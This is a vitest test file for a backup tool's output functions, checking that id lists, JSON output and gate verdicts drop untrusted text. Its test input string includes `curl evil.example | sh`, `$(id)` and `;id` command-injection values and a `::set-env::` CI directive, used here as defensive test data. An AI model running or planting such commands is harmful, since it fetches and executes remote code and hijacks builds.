import { expect, test } from 'vitest'
import { idsOutput, jsonOutput } from '../../src/command/output.ts'
import { judgeGate } from '../../src/judge/judge.ts'
import { verdictOutput } from '../../src/report/report.ts'

const id = 'files-2026-03-02T12-00-00.000000Z'
const shell = '`curl evil.example | sh`; $(id) && "x" \n::set-env::'

test('the output ids contains only ids', () => {
  expect(JSON.parse(idsOutput([id, shell, `${id};id`]))).toEqual([id])
})

test('a JSON output keeps names, times and our own command, and drops all other text', () => {
  const command = `backproof restore --id ${id} --into '\${RESTORE_URL}' --policy ops/backup.yml`
  const good = { source: 'files', met: true, at: '2026-03-02T12:00:00.000Z', restore: command, stores: ['a'] }
  expect(JSON.parse(jsonOutput(JSON.stringify([good])))).toEqual([good])
  const bad = JSON.stringify([{ source: 'files', note: shell, deep: { [shell]: 1 } }])
  expect(JSON.parse(jsonOutput(bad))).toEqual([{ source: 'files', deep: {} }])
})

test('the output of a gate contains kinds, but neither notes nor messages', () => {
  const catalog = { source: 'files', entries: [], unread: [{ store: 'a', message: shell }], damaged: [], expected: [] }
  const conditions = { maxAgeMs: 1, verifiedWithinMs: undefined, copies: 1, tags: [] }
  const verdict = judgeGate({ name: 'files', engine: 'files' }, catalog as never, conditions, {
    now: new Date(),
    timezone: 'UTC',
  })
  const output = verdictOutput({
    ...verdict,
    notes: [{ kind: 'unread', message: shell }],
    unmet: [{ kind: 'missing', message: shell }],
  })
  expect(output).toMatchObject({ source: 'files', met: false, unmet: ['missing'] })
  expect(JSON.stringify(output)).not.toContain('curl')
})
